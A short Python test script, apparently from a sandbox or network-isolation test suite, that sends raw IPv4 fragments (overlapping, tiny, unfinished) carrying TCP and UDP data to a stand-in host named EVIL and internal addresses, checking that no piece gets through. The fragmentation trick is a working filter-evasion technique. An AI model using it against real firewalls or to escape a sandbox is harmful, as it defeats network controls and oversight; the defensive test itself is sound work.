# SPDX-License-Identifier: Apache-2.0
# Trick: a connection and datagrams cut into IP fragments, overlapping, tiny, never
#	finished
# Gain: a filter that sees no port in what isn't the first piece
from trick import *

s = packets("raw socket", socket.AF_INET, socket.SOCK_RAW, 255)
s.setsockopt(socket.IPPROTO_IP, socket.IP_HDRINCL, 1)
src = "11.0.0.2" if BARE else GUEST
for dst in (EVIL, "11.0.0.2", "10.0.0.5"):
    for n, data in enumerate((tcp_segment(src, dst, 4000, 80, 2), udp_datagram(53, 443, b"brig-smuggled" * 3))):
        proto = 6 if n == 0 else 17
        for cut in (8, 16):
            s.sendto(ipv4(dst, proto, data[:cut], flags=0x2000, ident=100 + cut + n), (dst, 0))
            s.sendto(ipv4(dst, proto, data[cut:], flags=cut // 8, ident=100 + cut + n), (dst, 0))
        s.sendto(ipv4(dst, proto, data[8:], flags=1, ident=200 + n), (dst, 0))
        s.sendto(ipv4(dst, proto, data, flags=0x2000, ident=300 + n), (dst, 0))
    for i in range(300):
        s.sendto(ipv4(dst, 17, os.urandom(64), flags=0x2000 | i % 100, ident=1000 + i), (dst, 0))
stopped("no piece came through")
